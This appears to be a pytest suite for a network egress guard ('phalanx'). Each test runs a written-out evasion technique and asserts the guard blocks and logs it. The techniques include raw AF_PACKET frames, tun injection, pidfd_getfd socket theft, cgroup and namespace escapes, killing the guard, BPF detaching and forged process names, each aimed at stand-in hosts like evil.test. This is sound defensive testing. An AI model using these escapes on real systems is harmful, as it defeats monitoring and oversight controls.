"""The bypass suite: every escape technique of the adversarial review (issue 17), one test each, as root, against
real servers in the tests' own network namespaces (conftest.nsnet) or on loopback. Each test asserts on the
forbidden server's own log (not the client's exit code) that it received nothing, and that the attempt was
recorded with the pid of the process that made it. Where the guard can be told to let a technique through (audit
mode) or the technique needs no guard to show it works, a control run first proves the attack is real, so the test
can fail.

Skips: only when the machine cannot run the guard at all (not root, no cgroup v2, no BPF), with the reason."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from fakenet import FakeHttp, FakeProxy

from conftest import (
    DENIED,
    DENIED2,
    EVIL,
    HOST_IP,
    INET,
    RESOLVER,
    SINK,
    Net,
    NsNet,
    Result,
    guarded,
    in_host_ns,
    ns_guard,
    read_events,
    require_guard_support,
    unguarded,
)
from phalanx.guard import cgroup


@pytest.fixture(autouse=True)
def _fresh_logs(request: pytest.FixtureRequest) -> None:
    if "nsnet" in request.fixturenames:
        request.getfixturevalue("nsnet").clear()


def recorded(r: Result, kind: str, verdict: str = "deny") -> list[dict[str, object]]:
    """The events of `kind` with `verdict`, each of which must name the process (an int pid, argv or exe)."""
    out = [e for e in r.events if e["kind"] == kind and e["verdict"] == verdict]
    for e in out:
        assert isinstance(e["pid"], int) and e["pid"] > 1, e
        assert e["cmdline"] or e["exe"], e
    return out


def py(tmp_path: Path, name: str, code: str) -> str:
    """Write a Python attack script and return the shell command that runs it."""
    path = tmp_path / f"{name}.py"
    path.write_text(textwrap.dedent(code))
    return f"{sys.executable} {path}"


# ---- 1. CNAME and DNAME chains -------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [(), ("--strict",)], ids=["default", "strict"])
def test_an_allowed_name_that_is_a_cname_of_a_denied_one(nsnet: NsNet, tmp_path: Path, mode: tuple[str, ...]) -> None:
    script = f"curl -sS -m 5 {nsnet.url('alias.test')}; echo name=$?; curl -sS -m 5 {nsnet.url(EVIL)}; echo addr=$?"
    control = ns_guard(nsnet, tmp_path, script, "--audit", "--deny", "*.evil.test", *mode)
    assert nsnet.hits(EVIL), control.stderr  # audit lets it through: the chain really leads there
    assert recorded(control, "dns", "audit")[0]["cnames"] == ["cdn.evil.test"]
    nsnet.clear()
    r = ns_guard(nsnet, tmp_path, script, "--deny", "*.evil.test", *mode)
    assert nsnet.hits(EVIL) == [], r.stdout
    assert "name=6" in r.stdout and "addr=7" in r.stdout
    (dns,) = [e for e in recorded(r, "dns") if e["name"] == "alias.test" and e["qtype"] == "A"]
    assert dns["rule"] == "deny name *.evil.test" and dns["cnames"] == ["cdn.evil.test"] and dns["addresses"] == [EVIL]
    # The denied target's address joined the deny set: not learned as allowed, even in strict mode.
    assert recorded(r, "connect")[0]["addresses"] == [EVIL]


def test_a_dname_into_a_denied_zone(nsnet: NsNet, tmp_path: Path) -> None:
    script = f"curl -sS -m 5 {nsnet.url('www.corp.test')}; echo name=$?"
    control = ns_guard(nsnet, tmp_path, script, "--audit", "--deny", "*.evil.test")
    assert nsnet.hits(EVIL), control.stderr
    nsnet.clear()
    r = ns_guard(nsnet, tmp_path, script, "--deny", "*.evil.test")
    assert nsnet.hits(EVIL) == [] and "name=6" in r.stdout
    (dns,) = [e for e in recorded(r, "dns") if e["name"] == "www.corp.test" and e["qtype"] == "A"]
    assert set(dns["cnames"]) == {"corp.test", "evil.test", "www.evil.test"} and dns["rule"] == "deny name *.evil.test"


# ---- 2. link-layer and tunnel injection ----------------------------------------------------------------------


def _frame_sender(tmp_path: Path, nsnet: NsNet, kind: str) -> str:
    """A complete UDP datagram to the sink, built by hand and sent below IP (AF_PACKET raw or cooked)."""
    return py(
        tmp_path,
        f"l2_{kind}",
        f"""
        import socket, struct
        def csum(b):
            s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s & 0xffff) + (s >> 16); return ~s & 0xffff
        payload = b"from below IP"
        udp = struct.pack("!HHHH", 40000, {nsnet.sink.port}, 8 + len(payload), 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton("{HOST_IP}"), socket.inet_aton("{SINK}"))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        mac = bytes.fromhex("{nsnet.inet_mac.replace(":", "")}")
        try:
            if "{kind}" == "raw":
                s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
                s.sendto(mac + bytes(6) + b"\\x08\\x00" + ip + udp, ("{nsnet.host_dev}", 0))
            else:
                s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
                s.sendto(ip + udp, ("{nsnet.host_dev}", 0x0800, 0, 0, mac))
            print("sent")
        except PermissionError:
            print("EPERM")
    """,
    )


@pytest.mark.parametrize("kind", ["raw", "cooked"])
def test_af_packet_frames(nsnet: NsNet, tmp_path: Path, kind: str) -> None:
    attack = _frame_sender(tmp_path, nsnet, kind)
    assert "sent" in unguarded(nsnet, attack).stdout
    deadline = time.monotonic() + 5
    while not nsnet.sink.hits and time.monotonic() < deadline:
        time.sleep(0.05)
    assert nsnet.sink.hits, "the control frame did not arrive: the technique is not real here"
    nsnet.clear()
    # CAP_NET_RAW is kept, so the seccomp filter is what refuses (by default the capability is gone too).
    r = ns_guard(nsnet, tmp_path, attack, "--keep-cap", "net_raw")
    time.sleep(0.3)
    assert "EPERM" in r.stdout and nsnet.sink.hits == [], r.stdout + r.stderr
    assert recorded(r, "socket")[0]["name"] == "AF_PACKET"


@pytest.mark.parametrize(("family", "name"), [("44, socket.SOCK_RAW", "AF_XDP"),
                                              ("socket.AF_INET, 10", "AF_PACKET"),  # SOCK_PACKET: really AF_PACKET
                                              ("40, socket.SOCK_STREAM", "AF_VSOCK")])  # fmt: skip
def test_other_socket_families_below_ip(nsnet: NsNet, tmp_path: Path, family: str, name: str) -> None:
    attack = py(
        tmp_path,
        "family",
        f"""
        import socket
        try:
            socket.socket({family}); print("created")
        except PermissionError:
            print("EPERM")
        except OSError as e:
            print("other", e)
    """,
    )
    control = unguarded(nsnet, attack)
    assert "created" in control.stdout or "other" in control.stdout, control.stderr  # not EPERM without the guard
    r = ns_guard(nsnet, tmp_path, attack, "--keep-cap", "all")
    assert "EPERM" in r.stdout, r.stdout + r.stderr
    assert recorded(r, "socket")[0]["name"] == name
    assert nsnet.sink.hits == []


def _tun_injector(tmp_path: Path, nsnet: NsNet) -> str:
    """Create a tun device and write an IP packet into it: the host forwards it, no socket of the run sends it."""
    dev = f"pxgtun{os.getpid() % 10000}"
    return py(
        tmp_path,
        "tun",
        f"""
        import fcntl, os, socket, struct, subprocess
        try:
            fd = os.open("/dev/net/tun", os.O_RDWR)
        except PermissionError:
            print("EPERM"); raise SystemExit
        fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH", b"{dev}", 0x0001 | 0x1000))  # TUNSETIFF, IFF_TUN|IFF_NO_PI
        for cmd in ("ip link set {dev} up", "ip addr add 10.99.0.1/24 dev {dev}", "sysctl -qw net.ipv4.ip_forward=1",
                    "sysctl -qw net.ipv4.conf.all.rp_filter=0", "sysctl -qw net.ipv4.conf.{dev}.rp_filter=0"):
            subprocess.run(cmd.split(), check=True)
        def csum(b):
            s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s & 0xffff) + (s >> 16); return ~s & 0xffff
        payload = b"through a tun"
        udp = struct.pack("!HHHH", 40001, {nsnet.sink.port}, 8 + len(payload), 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton("10.99.0.2"), socket.inet_aton("{SINK}"))
        os.write(fd, ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + udp)
        import time; time.sleep(0.5)
        print("sent")
    """,
    )


def test_tun_device_injection(nsnet: NsNet, tmp_path: Path) -> None:
    attack = _tun_injector(tmp_path, nsnet)
    control = unguarded(nsnet, attack)
    assert "sent" in control.stdout and nsnet.sink.hits, control.stderr
    nsnet.clear()
    # CAP_NET_ADMIN is kept, so the cgroup/dev program is what refuses.
    r = ns_guard(nsnet, tmp_path, attack, "--keep-cap", "net_admin")
    assert "EPERM" in r.stdout and nsnet.sink.hits == [], r.stdout + r.stderr
    assert recorded(r, "device")[0]["name"].startswith("/dev/net/tun")


# ---- 3. addresses the proxy never saw --------------------------------------------------------------------------

# Each trick first works against a default-mode run that denies only the name; then both fixes are tried: the
# provider's ranges named with --deny-ranges (default mode), and --strict with an allow list.
TRICKS = {
    "second-address": lambda n: f"curl -sS -m 5 {n.url(DENIED2)}",
    "other-resolver": lambda n: (
        f"a=$(dig +short +time=2 +tries=1 -p {n.other_dns.port} @{RESOLVER} denied.test); "
        f"curl -sS -m 5 http://$a:{n.port}/"
    ),
    "doh-through-allowed": lambda n: (
        f"a=$(curl -sS -m 5 '{n.url('allowed.test', '/resolve?name=denied.test')}'); curl -sS -m 5 http://$a:{n.port}/"
    ),
    "resolve-against-wildcard": lambda n: f"curl -sS -m 5 --resolve x.evil.test:{n.port}:{EVIL} {n.url('x.evil.test')}",
}
TARGET = {"resolve-against-wildcard": EVIL}


@pytest.mark.parametrize("trick", list(TRICKS))
def test_addresses_learned_around_the_proxy(nsnet: NsNet, tmp_path: Path, trick: str) -> None:
    script = TRICKS[trick](nsnet)
    target = TARGET.get(trick, DENIED2)
    deny = ["--deny", "denied.test", "--deny", "*.evil.test"]
    before = ns_guard(nsnet, tmp_path, script, *deny)
    assert nsnet.hits(target), f"default mode should not know this address: {before.stdout}{before.stderr}"
    ranges = tmp_path / "provider-ranges.txt"
    ranges.write_text(f"# the provider's published ranges\n{DENIED}/32\n{DENIED2}/32\n{EVIL}/32\n")
    for fix in (["--deny-ranges", str(ranges)], ["--strict", "--allow", "allowed.test"]):
        nsnet.clear()
        r = ns_guard(nsnet, tmp_path, script, *deny, *fix)
        assert nsnet.hits(target) == [], (fix, r.stdout, r.stderr)
        blocked = recorded(r, "connect") + recorded(r, "sendmsg")
        assert blocked, (fix, r.events)
        if fix[0] == "--deny-ranges":
            assert any(str(e["rule"]).startswith("deny range") for e in blocked)


# ---- 4. uid 0 leaving the guard --------------------------------------------------------------------------------


def test_root_writes_its_pid_to_the_root_cgroup(nsnet: NsNet, tmp_path: Path) -> None:
    root = cgroup.find_root()
    script = (
        f"echo $$ > {root}/cgroup.procs; echo wrote=$?; cat /proc/self/cgroup | tail -1; "
        f"ls {root} | grep -c phalanx-guard; curl -sS -m 5 {nsnet.url(DENIED)}; echo curl=$?"
    )
    r = ns_guard(nsnet, tmp_path, script, "--deny", DENIED)
    assert "wrote=0" in r.stdout and "0::/" in r.stdout, r.stdout + r.stderr  # it thinks it is at the root...
    assert "\n0\n" in r.stdout  # ...sees no other cgroup (not even the guards' parent)...
    assert nsnet.hits(DENIED) == [] and "curl=7" in r.stdout  # ...and is still guarded
    assert recorded(r, "tamper")[0]["name"].endswith("to the cgroup root")
    assert recorded(r, "connect")[0]["addresses"] == [DENIED]


CLONE3_INTO_CGROUP = """
    import ctypes, errno, os, struct, sys
    libc = ctypes.CDLL(None, use_errno=True)
    def err():
        return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    view = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)  # the cgroup2 mount (in a run: its view)
    # A cgroup2 file handle is the cgroup's id (FILEID_KERNFS); the root cgroup's id is 1.
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 0xFE, 1))
    fd = libc.open_by_handle_at(view, handle, os.O_RDONLY | os.O_DIRECTORY)
    print("handle=" + ("ok" if fd >= 0 else err()), flush=True)
    target = fd if fd >= 0 else view
    # struct clone_args (CLONE_ARGS_SIZE_VER2): flags CLONE_INTO_CGROUP, exit_signal SIGCHLD, cgroup = target.
    args = ctypes.create_string_buffer(struct.pack("=11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, target))
    pid = libc.syscall(435, args, 88)
    if pid == 0:
        with open("/proc/self/cgroup") as f:
            os.write(1, ("child=" + f.read().strip().splitlines()[-1] + "\\n").encode())
        os.execvp("curl", ["curl", "-sS", "-m", "5", "-o", "/dev/null", sys.argv[1]])
    elif pid < 0:
        print("clone3=" + err(), flush=True)
    else:
        print("curl=" + str(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])), flush=True)
"""


def test_clone3_into_the_root_cgroup(nsnet: NsNet, tmp_path: Path) -> None:
    """clone3(CLONE_INTO_CGROUP) needs an fd of the target cgroup. In the run's view no cgroup outside the run
    can be opened by path, and opening the root cgroup by its file handle needs dac_read_search, which the run
    does not have: the child starts in the run's cgroup and is guarded."""
    attack = py(tmp_path, "clone3", CLONE3_INTO_CGROUP) + f" {nsnet.url(DENIED)} {cgroup.find_root()}"
    control = unguarded(nsnet, attack)  # full root, no guard: the handle opens and the child lands at the root
    assert "handle=ok" in control.stdout and "child=0::/\n" in control.stdout, control.stdout + control.stderr
    nsnet.clear()
    r = ns_guard(nsnet, tmp_path, attack, "--deny", DENIED)
    assert "handle=EPERM" in r.stdout, r.stdout + r.stderr
    assert "child=0::/\n" in r.stdout or "clone3=" in r.stdout, r.stdout  # the view's root is the run's cgroup
    assert nsnet.hits(DENIED) == [], r.stdout
    if "clone3=" not in r.stdout:
        assert "curl=7" in r.stdout, r.stdout
        assert recorded(r, "connect")[0]["addresses"] == [DENIED]


def test_root_kills_the_reaper_then_the_guard(nsnet: NsNet, tmp_path: Path) -> None:
    find_reaper = py(
        tmp_path,
        "reaper",
        """
        import os, sys
        guard = int(sys.argv[1])
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) != os.getpid():
                try:
                    stat = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                except OSError:
                    continue
                if int(stat[1]) == guard and "phalanx" in open(f"/proc/{p}/cmdline").read():
                    print(p)
    """,
    )
    script = (
        f"r=$({find_reaper} $PPID | head -1); echo reaper=$r; kill -9 $r; echo kill_reaper=$?; kill -9 $PPID; "
        f"echo kill_guard=$?; kill -9 -1; echo kill_all=$?; sleep 1; curl -sS -m 5 {nsnet.url(DENIED)}; echo curl=$?"
    )
    r = ns_guard(nsnet, tmp_path, script, "--deny", DENIED, "--keep-cap", "all")
    assert "kill_reaper=1" in r.stdout and "kill_guard=1" in r.stdout and "kill_all=1" in r.stdout, r.stdout
    assert nsnet.hits(DENIED) == [] and "curl=7" in r.stdout and r.returncode == 0, r.stderr
    names = [e["name"] for e in recorded(r, "tamper")]
    assert any("(the guard's reaper)" in str(n) for n in names) and any("(the guard)" in str(n) for n in names)
    assert any("every process" in str(n) for n in names)


def test_a_daemon_moves_a_process_of_the_run_out(nsnet: NsNet, tmp_path: Path) -> None:
    """What `systemd-run --scope` does: a process outside the run (here, the test) moves one of the run's out. The
    guard cannot refuse it; it detects the move, kills the moved process and stops the run (exit 75)."""
    pidfile = tmp_path / "victim.pid"
    script = f"sh -c 'echo $$ > {pidfile}; sleep 3; curl -sS -m 5 {nsnet.url(DENIED)}' ; sleep 10"
    events = tmp_path / "events-move.jsonl"
    guard = [sys.executable, "-m", "phalanx", "guard", "--upstream", f"{INET}:{nsnet.dns.port}", "--events",
             str(events), "--deny", DENIED, "--", "sh", "-c", script]  # fmt: skip
    proc = subprocess.Popen(in_host_ns(nsnet, guard), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not (pidfile.exists() and pidfile.read_text().strip()) and time.monotonic() < deadline:
            time.sleep(0.05)
        victim = int(pidfile.read_text())
        (cgroup.find_root() / "cgroup.procs").write_text(str(victim))  # out of the run, by an outsider
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 75, err
    assert not Path(f"/proc/{victim}").exists() or "Z" in Path(f"/proc/{victim}/stat").read_text().split()[2]
    assert nsnet.hits(DENIED) == []
    (ev,) = [e for e in read_events(events) if e["kind"] == "tamper"]
    assert ev["pid"] == victim and "moved out of its cgroup" in ev["rule"]


def test_user_runs_the_command_without_root(nsnet: NsNet, tmp_path: Path) -> None:
    root = cgroup.find_root()
    script = f"id -u; echo $$ > {root}/cgroup.procs; echo wrote=$?; curl -sS -m 5 {nsnet.url(DENIED)}; echo curl=$?"
    r = ns_guard(nsnet, tmp_path, script, "--deny", DENIED, "--user", "nobody")
    assert r.stdout.split()[0] == "65534" and "curl=7" in r.stdout, r.stdout + r.stderr
    assert "wrote=0" not in r.stdout and "Permission denied" in r.stderr  # not root: the file is not its to write
    assert nsnet.hits(DENIED) == [] and recorded(r, "connect")[0]["addresses"] == [DENIED]


def test_capabilities_that_undo_the_guard_are_dropped(nsnet: NsNet, tmp_path: Path) -> None:
    from phalanx.guard.privilege import CAPS, DEFAULT_DROP

    r = ns_guard(nsnet, tmp_path, "grep -E '^Cap(Bnd|Eff):' /proc/self/status", "--deny", DENIED)
    masks = {line.split()[0]: int(line.split()[1], 16) for line in r.stdout.splitlines()}
    for name in DEFAULT_DROP:
        assert not masks["CapBnd:"] >> CAPS[name] & 1, name
    assert masks["CapEff:"] >> CAPS["dac_override"] & 1  # a deploy script keeps what it needs


# ---- 5. a forward proxy outside the cgroup ----------------------------------------------------------------------


def test_a_forward_proxy_outside_the_run(net: Net, guard, tmp_path: Path) -> None:
    forbidden = FakeHttp("127.0.0.21").start()
    proxy = FakeProxy("127.0.0.22", {"denied.test": "127.0.0.21"}).start()
    try:
        env = {"http_proxy": proxy.url}
        script = f"curl -sS -m 5 http://denied.test:{forbidden.port}/; echo env=$?; " \
                 f"curl -sS -m 5 -x {proxy.url} http://denied.test:{forbidden.port}/; echo explicit=$?"  # fmt: skip
        warned = guard(script, "--deny", "denied.test", env=env)
        assert forbidden.hits, warned.stderr  # the default (warn) cannot see through the proxy...
        assert "http_proxy set" in warned.stderr and recorded_proxy(warned) == ["audit"]  # ...and says so
        forbidden.hits.clear()
        proxy.hits.clear()
        r = guard(script, "--deny", "denied.test", "--http-proxy-policy", "deny", env=env)
        assert forbidden.hits == [] and proxy.hits == [], r.stdout + r.stderr
        assert "env=6" in r.stdout and "explicit=7" in r.stdout  # direct: NXDOMAIN; the proxy itself: EPERM
        assert recorded(r, "dns")[0]["name"] == "denied.test"
        assert recorded(r, "connect")[0]["addresses"] == ["127.0.0.22"] and recorded_proxy(r) == ["deny"]
    finally:
        proxy.stop()
        forbidden.stop()


def recorded_proxy(r: Result) -> list[object]:
    return [e["verdict"] for e in r.events if e["kind"] == "proxy"]


# ---- 6. borrowed sockets ---------------------------------------------------------------------------------------


def _stealer(tmp_path: Path, nsnet: NsNet) -> str:
    """Take the fds of another process with pidfd_getfd and send to the sink through any UDP socket among them."""
    return py(
        tmp_path,
        "steal",
        f"""
        import os, socket, sys
        refused = sent = 0
        try:
            pidfd = os.pidfd_open(int(sys.argv[1]))
        except PermissionError:
            print("refused pidfd_open sent 0"); raise SystemExit
        for fd in range(3, 40):
            try:
                n = os.pidfd_getfd(pidfd, fd) if hasattr(os, "pidfd_getfd") else None
            except PermissionError:
                refused += 1; continue
            except OSError:
                continue
            if n is None:
                import ctypes; libc = ctypes.CDLL(None, use_errno=True)
                n = libc.syscall(438, pidfd, fd, 0)
                if n < 0:
                    refused += ctypes.get_errno() == 1; continue
            try:
                s = socket.socket(fileno=n)
                if s.type == socket.SOCK_DGRAM and s.family == socket.AF_INET:
                    s.sendto(b"borrowed", ("{SINK}", {nsnet.sink.port})); sent += 1
            except OSError:
                pass
        print("refused", refused, "sent", sent)
    """,
    )


def test_pidfd_getfd_on_the_guards_sockets(nsnet: NsNet, tmp_path: Path) -> None:
    holder = subprocess.Popen(in_host_ns(nsnet, [sys.executable, "-c", "import socket,time;s=socket.socket("
                              "socket.AF_INET,socket.SOCK_DGRAM);print('ready',flush=True);time.sleep(30)"]),
                              stdout=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "ready\n"  # its socket exists (not a sleep)
        control = unguarded(nsnet, f"{_stealer(tmp_path, nsnet)} {holder.pid}")
        assert "sent 0" not in control.stdout and nsnet.sink.hits, control.stdout + control.stderr
        nsnet.clear()
        # Even with every capability kept, the seccomp filter refuses: a pidfd of the guard itself, and the fds of
        # any other process outside the run.
        steal = _stealer(tmp_path, nsnet)
        r = ns_guard(nsnet, tmp_path, f"{steal} $PPID; {steal} {holder.pid}", "--keep-cap", "all")
        assert r.stdout.count("sent 0") == 2 and nsnet.sink.hits == [], r.stdout + r.stderr
        names = [str(e["name"]) for e in recorded(r, "tamper")]
        assert names[0].startswith("pidfd_open pid") and names[0].endswith("(the guard)")
        assert f"pidfd_getfd on pid {holder.pid}" in names[1:]
    finally:
        holder.kill()
        holder.wait()
        if holder.stdout is not None:
            holder.stdout.close()


# ---- 7. lost or forged attribution -------------------------------------------------------------------------------


def test_an_attempt_during_a_connect_flood_is_recorded(nsnet: NsNet, tmp_path: Path) -> None:
    flood = py(
        tmp_path,
        "flood",
        f"""
        import socket
        for i in range(30000):          # repeated denials: counted, not re-sent
            s = socket.socket(); s.connect_ex(("{DENIED}", 80)); s.close()
        for port in range(1, 3001):     # distinct denials: each one reported (port 53 goes to the DNS proxy)
            s = socket.socket(); s.connect_ex(("{DENIED}", port)); s.close()
        s = socket.socket(); print("attempt", s.connect_ex(("{DENIED2}", {nsnet.port})))
    """,
    )
    r = ns_guard(nsnet, tmp_path, flood, "--deny", DENIED, "--deny", DENIED2)
    assert "attempt 1" in r.stdout and nsnet.hits(DENIED2) == [], r.stderr
    attempt = [e for e in recorded(r, "connect") if e["addresses"] == [DENIED2]]
    assert len(attempt) == 1 and attempt[0]["exe"].startswith("/")
    assert len([e for e in recorded(r, "connect") if e["addresses"] == [DENIED]]) == 2999
    # Nothing lost silently: the summary counts the repeats it did not send (30,000 on port 80, one of them
    # reported, plus port 80 again in the second loop).
    assert "not reported: 30000 repeated denials" in r.stderr and "lost" not in r.stderr, r.stderr


def test_a_flood_of_sockets_does_not_cost_a_packet_event_its_pid(nsnet: NsNet, tmp_path: Path) -> None:
    """A raw socket made first, then 72,000 more sockets (more than the old 65,536-entry owner map, which evicted
    the first), then the raw socket sends a packet the egress program judges: its event still names the process
    (the owner lives in the socket's own storage)."""
    attack = py(
        tmp_path,
        "owners",
        f"""
        import os, resource, socket
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        per = min(hard - 100, 18000)
        kids = []
        for _ in range(-(-72000 // per)):  # children hold the sockets: one process may not have so many fds
            ready_r, ready_w = os.pipe()
            go_r, go_w = os.pipe()
            if os.fork() == 0:
                keep = [socket.socket() for _ in range(per)]
                os.write(ready_w, b"x"); os.read(go_r, 1); os._exit(0)
            kids.append((ready_r, go_w))
        for ready_r, _ in kids:
            os.read(ready_r, 1)
        try:
            raw.sendto(bytes(8), ("{SINK}", 0)); print("sent")
        except PermissionError:
            print("EPERM")
        for _, go_w in kids:
            os.write(go_w, b"x")
    """,
    )
    r = ns_guard(nsnet, tmp_path, attack, "--deny", SINK, "--keep-cap", "net_raw")
    assert "EPERM" in r.stdout and nsnet.sink.hits == [], r.stdout + r.stderr
    (ev,) = recorded(r, "packet")
    assert ev["comm"] == "python3" or ev["comm"].startswith("python")


def test_a_forged_argv_and_comm_do_not_hide_the_executable(nsnet: NsNet, tmp_path: Path) -> None:
    code = py(
        tmp_path,
        "forged",
        f"""
        import ctypes, socket
        ctypes.CDLL(None).prctl(15, b"innocent")  # PR_SET_NAME: the comm
        print(socket.socket().connect_ex(("{DENIED}", {nsnet.port})))
    """,
    )
    script = f"bash -c 'exec -a innocent {code}'"  # argv[0]
    r = ns_guard(nsnet, tmp_path, script, "--deny", DENIED)
    assert nsnet.hits(DENIED) == []
    (ev,) = recorded(r, "connect")
    assert ev["cmdline"][0] == "innocent" and ev["comm"] == "innocent"  # what the process says it is...
    assert Path(ev["exe"]).name.startswith("python") and Path(ev["exe"]).resolve() == Path(sys.executable).resolve()


def test_learned_addresses_are_labelled(nsnet: NsNet, tmp_path: Path) -> None:
    r = ns_guard(nsnet, tmp_path, f"curl -sS -m 5 {nsnet.url('allowed.test')}", "--strict")
    (ev,) = [e for e in r.events if e["kind"] == "connect" and e["addresses"] == [INET]]
    assert ev["verdict"] == "allow" and ev["rule"] == "strict: address learned from an allowed answer"


# ---- the guard's own integrity, from outside -----------------------------------------------------------------


def _start_guarded_sleeper(net: Net, tmp_path: Path) -> tuple[subprocess.Popen[str], Path]:
    """A guarded `sleep 30`, returned once its command runs (the guard is set up), and its events file."""
    require_guard_support()
    ready, events = tmp_path / "ready", tmp_path / "events.jsonl"
    proc = subprocess.Popen(guarded(net, f"touch {ready}; sleep 30", events=events), stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while not ready.exists() and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    return proc, events


def test_the_reaper_killed_from_outside_stops_the_run(net: Net, tmp_path: Path) -> None:
    proc, events = _start_guarded_sleeper(net, tmp_path)
    try:
        guard_pid = proc.pid  # unshare and sh exec into the guard: the same pid
        assert b"phalanx" in Path(f"/proc/{guard_pid}/cmdline").read_bytes()
        children = [int(p) for p in Path(f"/proc/{guard_pid}/task/{guard_pid}/children").read_text().split()]
        reaper = next(p for p in children if "phalanx" in Path(f"/proc/{p}/cmdline").read_text())
        os.kill(reaper, signal.SIGKILL)
        _, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 75 and "reaper died" in err, err
    assert [e["name"] for e in read_events(events) if e["kind"] == "tamper"] == ["the reaper exited"]


def test_events_of_the_new_kinds_match_the_schema(nsnet: NsNet, tmp_path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads((Path(__file__).resolve().parents[2] / "docs/guard-events.schema.json").read_text())
    script = "cat /dev/net/tun; kill -0 $PPID; " + py(tmp_path, "pk", "import socket\ntry: socket.socket(17, 3)\n"
                                                        "except OSError: pass\n")  # fmt: skip
    r = ns_guard(nsnet, tmp_path, script, env={"https_proxy": "http://127.0.0.1:3128"})
    assert {e["kind"] for e in r.events} >= {"device", "tamper", "socket", "proxy"}
    for e in r.events:
        jsonschema.validate(e, schema)


def test_setns_into_the_hosts_mount_namespace(nsnet: NsNet, tmp_path: Path) -> None:
    """With every capability kept, nsenter into the host's mount namespace (here: the test's own) would reach the
    host's cgroup tree."""
    root = cgroup.find_root()
    host = f"/proc/{os.getpid()}/ns/mnt"
    script = f"nsenter --mount={host} sh -c 'echo $$ > {root}/cgroup.procs'; echo nsenter=$?; " \
             f"curl -sS -m 5 {nsnet.url(DENIED)}; echo curl=$?"  # fmt: skip
    r = ns_guard(nsnet, tmp_path, script, "--deny", DENIED, "--keep-cap", "all")
    assert "nsenter=0" not in r.stdout and "curl=7" in r.stdout and nsnet.hits(DENIED) == [], r.stdout + r.stderr
    assert recorded(r, "tamper")[0]["name"] == "setns into a mnt namespace"


def test_a_program_detached_from_outside_stops_the_run(net: Net, tmp_path: Path) -> None:
    proc, events = _start_guarded_sleeper(net, tmp_path)
    try:
        (run_cg,) = [p for p in (cgroup.find_root() / cgroup.PARENT).iterdir() if p.name.startswith(f"{proc.pid}-")]
        links = json.loads(subprocess.run(["bpftool", "-j", "link", "show"], capture_output=True, text=True,
                                          timeout=30, check=True).stdout)  # fmt: skip
        ours = [lk["id"] for lk in links if lk.get("cgroup_id") == run_cg.stat().st_ino]
        assert len(ours) == 9, links
        subprocess.run(["bpftool", "link", "detach", "id", str(ours[0])], check=True, timeout=30)
        _, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 75 and "detached" in err, err
    assert [e["name"] for e in read_events(events) if e["kind"] == "tamper"] == [f"program link {ours[0]} detached"]
